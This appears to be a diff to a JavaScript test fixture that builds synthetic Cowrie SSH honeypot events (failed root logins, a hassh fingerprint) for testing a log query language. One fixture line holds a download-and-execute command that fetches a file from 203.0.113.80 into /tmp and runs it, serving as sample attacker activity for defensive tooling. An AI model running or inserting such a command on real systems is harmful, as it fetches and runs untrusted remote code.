@@ -11,7 +11,7 @@ const stamp = (ms) => new Date(ms).toISOString().replace(/\.(\d{3})Z$/, '.$1000Z
 const id = (n) => n.toString(16).padStart(32, '0');
 
 const STEPS = [
-  ['cowrie.session.connect', {}], ['cowrie.client.version', { version: 'SSH-2.0-Go' }],
+  ['cowrie.session.connect', {}], ['cowrie.client.version', { version: 'SSH-2.0-Go', hassh: '5f904648ee8964bef0e8834012e26003' }],
   ...['123456', 'admin', 'password', EVIL, 'toor', 'qwerty'].map((password) => ['cowrie.login.failed', { username: 'root', password }]),
   ['cowrie.login.success', { username: 'root', password: 'P@ssw0rd' }], ['cowrie.command.input', { input: 'uname -a' }],
   ['cowrie.command.input', { input: 'cd /tmp; wget http://203.0.113.80/a; chmod +x a; ./a' }],
@@ -49,7 +49,7 @@ export const EVENTS = [...Array(240).keys()].map((n) => {
 const FIELDS = {
   src: (e) => e.source_ip, dst: (e) => e.destination_ip, port: (e) => e.destination_port, type: (e) => e.attack_type, user: (e) => e.attributes.username, password: (e) => e.attributes.password, command: (e) => e.attributes.input,
   url: (e) => e.attributes.url, sha256: (e) => e.attributes.shasum, client: (e) => e.attributes.version, signature: (e) => e.attributes.signature, session: (e) => e.attributes.session, dataset: (e) => e.dataset, source: (e) => e.source,
-  app: (e) => e.application_protocol, proto: (e) => e.protocol, severity: (e) => e.severity, alert: (e) => e.alert_id, country: (e) => e.country, kind: (e) => (e.attributes.eventid ?? e.attributes.event_type).replace(/^cowrie\./, ''), hassh: () => undefined, label: (e) => e.label,
+  app: (e) => e.application_protocol, proto: (e) => e.protocol, severity: (e) => e.severity, alert: (e) => e.alert_id, country: (e) => e.country, kind: (e) => (e.attributes.eventid ?? e.attributes.event_type).replace(/^cowrie\./, ''), hassh: (e) => e.attributes.hassh, by: (e) => e.by, label: (e) => e.label,
 };
 
 // Enough of the language for tests: field:value, quotes, negation, free words.
